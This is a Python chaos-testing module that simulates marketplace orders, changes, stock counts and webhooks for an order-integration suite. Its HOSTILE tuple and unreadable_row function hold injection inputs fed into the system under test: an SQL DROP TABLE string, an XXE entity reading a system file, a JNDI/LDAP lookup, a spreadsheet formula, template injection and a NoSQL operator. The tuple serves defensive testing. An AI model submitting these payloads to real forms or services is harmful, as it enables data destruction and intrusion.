"""What buyers, carriers and the company's own people do meanwhile: orders, changes, stock counts, webhooks.

The plan follows from the seed; it is carried out by the remotes' levers and stands in their ground truth.
"""

import random
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

from kopru.testing.chaos.remotes import Remotes
from kopru.testing.truth import Truth
from kopru.testing.world import World, WorldOrder, make_order, make_world

PER_TENANT = 1_000_000
"""Order numbers of a company start at its place times this."""

STOCK = 5_000
_OPEN = ("Created", "Picking")
_CHANGES = {"cancel": 0.03, "split": 0.02, "address": 0.02}
"""Share of orders that see each change."""

_LATEST_CHANGE = 15.0
_ARRIVALS = 0.92
"""The part of the run in which orders arrive."""

_STOCK_EVERY = 6.0

HOSTILE = (
    '=HYPERLINK("http://example.com";"x")',
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><a>&x;</a>",
    "\u202eters yazı\u202c",
    'Robert\'); DROP TABLE "order";--',
    "çok uzun " * 400,
    "😀\u0007\u000b satır\r\nsonu",
    "{{().__class__}}${jndi:ldap://example.com}",
)
"""Names no form should have let through."""


@dataclass(frozen=True, slots=True, order=True)
class Move:
    """One thing that happens at a remote: when (seconds from the start), to whom, what, which order."""

    at: float
    tenant: int
    what: str
    n: int = 0


def world_of(seed: int) -> World:
    """Return the items and buyers all companies share, with stock a marketplace takes."""
    world = make_world(0, seed=seed)
    return replace(world, items=tuple(replace(item, stock=STOCK) for item in world.items))


def plan_traffic(seed: int, seconds: float, tenants: int, orders: int) -> tuple[Move, ...]:
    """Return what happens in a run, in order of time."""
    dice = random.Random(f"traffic:{seed}")
    moves = []
    for n in range(orders):
        tenant = n % tenants
        number = tenant * PER_TENANT + n // tenants
        at = dice.uniform(0.0, seconds * _ARRIVALS)
        moves.append(Move(round(at, 3), tenant, "order", number))
        fate = dice.random()
        for what, share in _CHANGES.items():
            if 0 <= fate < share:
                later = at + dice.uniform(0.2, min(_LATEST_CHANGE, seconds / 3))
                moves.append(Move(round(min(later, seconds), 3), tenant, what, number))
            fate -= share
    for tenant in range(tenants):
        for n in range(int(seconds / _STOCK_EVERY)):
            moves.append(Move(round(dice.uniform(0.0, seconds), 3), tenant, "stock", n))
    return tuple(sorted(moves))


class Traffic:
    """Lets the plan happen, in a thread of its own."""

    def __init__(self, seed: int, moves: Sequence[Move], remotes: Sequence[Remotes], history: Truth) -> None:
        """Take the plan and whom it happens to."""
        self._seed = seed
        self._moves = moves
        self._remotes = remotes
        self._history = history
        self._stopping = threading.Event()
        self._thread = threading.Thread(target=self._run, name="traffic", daemon=True)
        self._extra = 0
        self.orders: dict[tuple[str, str], WorldOrder] = {}
        """What was ordered, by company and package."""
        self.counts: dict[str, int] = {}

    def start(self) -> None:
        """Begin."""
        self._thread.start()

    def stop(self) -> None:
        """Let nothing more happen."""
        self._stopping.set()
        self._thread.join()

    def place(self, tenant: int, n: int, name: str = "") -> str:
        """Let a buyer order something, under a name of his choice; return the package's id."""
        at = self._remotes[tenant]
        order = make_order(at.world, n, datetime.now(UTC) - timedelta(seconds=1), seed=self._seed)
        if name:
            order = replace(order, buyer=replace(order.buyer, first_name=name[:3000], street=name[:3000]))
        self.orders[at.tenant, str(order.id)] = order
        at.shop.add_order(order)
        self._count("orders")
        return str(order.id)

    def place_extra(self, tenant: int, name: str = "") -> str:
        """Let a further order come in, besides the plan."""
        return self.place(tenant, self.extra_number(tenant), name)

    def extra_number(self, tenant: int) -> int:
        """Return a number for an order besides the plan."""
        self._extra += 1
        return tenant * PER_TENANT + PER_TENANT // 2 + self._extra

    def package_of(self, n: int, tenant: int) -> int:
        """Return the package an order of that number has."""
        return make_order(self._remotes[tenant].world, n, datetime.now(UTC), seed=self._seed).id

    def _run(self) -> None:
        began = time.monotonic()
        for move in self._moves:
            if self._stopping.wait(max(0.0, began + move.at - time.monotonic())):
                return
            try:
                self._do(move)
            except Exception as error:  # noqa: BLE001 - a fault of the suite must not end the traffic unseen
                self._history.note("traffic.failed", move=str(move), error=repr(error))

    def _do(self, move: Move) -> None:
        if move.what == "order":
            self.place(move.tenant, move.n)
        elif move.what == "stock":
            self._count_stock(move)
        else:
            self._change(move)

    def _change(self, move: Move) -> None:
        shop = self._remotes[move.tenant].shop
        with shop.lock:
            package_id = self.package_of(move.n, move.tenant)
            package = shop.shelf.live.get(package_id)
            if package is None or package["status"] not in _OPEN:
                return
            groups = _halves(package)
            if move.what == "cancel":
                shop.cancel_order(package_id)
            elif move.what == "split" and groups:
                shop.split_order(package_id, groups)
            else:
                address = {**package["invoiceAddress"], "address1": f"Yeni Sok. No:{move.n % 100}"}
                address["fullAddress"] = address["address1"]
                shop.change_order(package_id, invoiceAddress=address)
        self._count(move.what)

    def _count_stock(self, move: Move) -> None:
        at = self._remotes[move.tenant]
        item = at.world.items[(move.n * 7) % len(at.world.items)]
        at.ledger.set_stock(item.code, Decimal(STOCK - 3 * (move.n + 1)))
        self._count("stock")

    def _count(self, what: str) -> None:
        self.counts[what] = self.counts.get(what, 0) + 1


def _halves(package: Mapping[str, Any]) -> list[list[tuple[int, int]]]:
    """Return a package's units in two groups; none when it has only one."""
    units = [(line["lineId"], 1) for line in package["lines"] for _ in range(line["quantity"])]
    if len(units) < 2:
        return []
    middle = len(units) // 2
    return [_summed(units[:middle]), _summed(units[middle:])]


def _summed(units: Sequence[tuple[int, int]]) -> list[tuple[int, int]]:
    counts: dict[int, int] = {}
    for line, quantity in units:
        counts[line] = counts.get(line, 0) + quantity
    return list(counts.items())


def unreadable_row(package: int, form: int) -> dict[str, Any]:
    """Return a row of the order list that no connector can read as an order, but that has an identity."""
    forms: tuple[dict[str, Any], ...] = (
        {"status": None, "lines": "none"},
        {"lines": [{"quantity": "x" * 100_000}]},
        {"lines": _deep(60), "orderDate": "dün"},
        {"orderNumber": {"$ne": 1}, "lines": [], "packageTotalPrice": "1e999999"},
    )
    return {
        "shipmentPackageId": package,
        "lastModifiedDate": int(time.time() * 1000),
        **forms[form % len(forms)],
    }


def _deep(levels: int) -> list[Any]:
    inner: list[Any] = []
    for _ in range(levels):
        inner = [inner]
    return inner


def deliver(url: str, content: bytes, headers: Mapping[str, str]) -> int:
    """Send one webhook; return the status, 0 when nobody answered."""
    request = urllib.request.Request(url, content, {"content-type": "application/json", **headers})
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return 0
